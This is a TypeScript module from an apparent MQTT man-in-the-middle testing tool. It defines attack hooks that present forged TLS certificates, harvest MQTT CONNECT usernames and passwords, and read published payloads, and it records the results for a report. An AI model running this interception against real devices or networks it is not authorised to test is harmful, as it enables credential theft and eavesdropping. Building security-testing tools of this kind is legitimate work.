/**
 * What a man-in-the-middle does with a connection it intercepts (docs/architecture.md §3 Roles). Each attack is
 * a small object implementing only the hooks it needs, with a one-sentence explain() for the
 * report, so a new attack never touches the proxy core (STYLE.md: mitmproxy addons).
 */
import type mqttPacket from 'mqtt-packet';
import type { ClientHello } from '../analysis/tls-client-hello.ts';

export interface ServerCredential {
  readonly certChainPem: string;
  readonly keyPem: string;
  /** OpenSSL refuses to load weak material (RSA-1024, MD5/SHA-1 signatures) at SECLEVEL 2. */
  readonly legacySecurityLevel?: boolean;
}

export interface AttackContext {
  note(summary: string, detail?: Record<string, unknown>): void;
}

export interface HandshakeFailure {
  /** The client's alert or the error OpenSSL reported at the proxy, e.g. "alert bad certificate". */
  readonly message: string;
  readonly code?: string;
}

export interface MitmAttack {
  readonly name: string;
  explain(): string;
  /** The certificate and key the proxy presents to the victim. */
  serverCredential?(): ServerCredential;
  onClientHello?(hello: ClientHello, ctx: AttackContext): void;
  onHandshakeFailed?(failure: HandshakeFailure, ctx: AttackContext): void;
  onHandshakeComplete?(info: { protocol: string; cipher: string; clientCertificateCn?: string }, ctx: AttackContext): void;
  onMqttPacket?(packet: mqttPacket.Packet, ctx: AttackContext): void;
}

/** Present a forged certificate and hope the client does not check it properly. */
export function presentForgedCertificate(name: string, explanation: string, credential: ServerCredential): MitmAttack {
  return {
    name: `forged certificate: ${name}`,
    explain: () => `presents a forged certificate (${name}): ${explanation}`,
    serverCredential: () => credential,
    onHandshakeFailed: (failure, ctx) => ctx.note(`the client refused the forged certificate (${name}): ${failure.message}`, { certificate: name }),
    onHandshakeComplete: (info, ctx) => ctx.note(`the client ACCEPTED the forged certificate (${name}) over ${info.protocol}`, { certificate: name }),
  };
}

/** Collect what the victim proves about itself: client id, username, password (MQTT 3.1.1 §3.1.3). */
export function harvestCredentials(): MitmAttack {
  return {
    name: 'harvest credentials',
    explain: () => 'records the MQTT client id, username and password from CONNECT',
    onMqttPacket: (packet, ctx) => {
      if (packet.cmd !== 'connect') return;
      const password = packet.password === undefined ? undefined : Buffer.from(packet.password).toString('utf8');
      ctx.note(`harvested CONNECT: client id "${packet.clientId}"${packet.username ? `, username "${packet.username}"` : ''}${password ? `, password "${password}"` : ''}`, {
        clientId: packet.clientId,
        username: packet.username,
        password,
      });
    },
  };
}

/** Read every published payload, and try to make sense of it. */
export function readPublishedPayloads(): MitmAttack {
  return {
    name: 'read payloads',
    explain: () => 'reads every PUBLISH topic and payload the victim sends',
    onMqttPacket: (packet, ctx) => {
      if (packet.cmd !== 'publish') return;
      const payload = Buffer.from(packet.payload as Buffer);
      ctx.note(`read PUBLISH ${packet.topic}: ${payload.length} bytes`, { topic: packet.topic, bytes: payload.length });
    },
  };
}
